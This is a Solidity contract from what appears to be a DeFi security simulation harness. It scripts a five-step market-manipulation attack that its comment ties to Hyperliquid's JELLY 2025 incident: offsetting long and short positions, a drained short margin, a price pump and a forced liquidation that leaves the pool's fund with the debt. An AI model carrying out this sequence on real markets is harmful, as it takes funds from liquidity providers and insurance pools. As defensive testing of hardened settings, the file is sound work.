// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Crew} from "./Crew.sol";
import {Actor} from "./worlds/Actor.sol";
import {World} from "./worlds/World.sol";

/// Two accounts hold both sides of a thin market. The short takes its margin out; he pumps the price, holds it for a
/// block and has the short liquidated: the pool and its fund inherit what it owes, and the long is paid in full.
/// Mechanism of Hyperliquid's JELLY 2025. Stopped by the oracle, and by margins that stay in a position and grow with
/// its size; the fund gives one market no more than half.
contract InsolventInheritance is Crew {
    Actor private _short;
    Actor private _long;

    constructor(World world_) Crew(world_) {}

    function naiveLoss() external pure override returns (uint256) {
        return 600_000 * USD;
    }

    function bound() external pure override returns (uint256) {
        return 0;
    }

    function capital() external view override returns (uint256, uint256) {
        return (pump() + 104_000 * USD, 0);
    }

    function steps() external pure override returns (uint256) {
        return 5;
    }

    function pump() public view virtual returns (uint256) {
        return 100_000 * USD;
    }

    function _step(uint256 step) internal override {
        if (step == 0) _open();
        if (step < 2) _fill();
        if (step == 1) _drain(_short);
        if (step == 2) {
            pool.buyBase(pump());
            try perp.liquidate(address(_short), MARKET, type(uint256).max) {} catch {}
        }
        if (step == 3) {
            _closeOf(_long);
            pool.sellBase(base.balanceOf(address(this)));
        }
        if (step == 4) _closeOf(_short);
    }

    function _open() private {
        bool isHardened = world.isHardened();
        uint256 margin = (isHardened ? 25_000 : 51_000) * USD;
        int128 size = isHardened ? int128(60e18) : int128(250e18);
        (_short, _long) = (_hire(margin), _hire(margin));
        _order(_short, -size);
        _order(_long, size);
    }
}
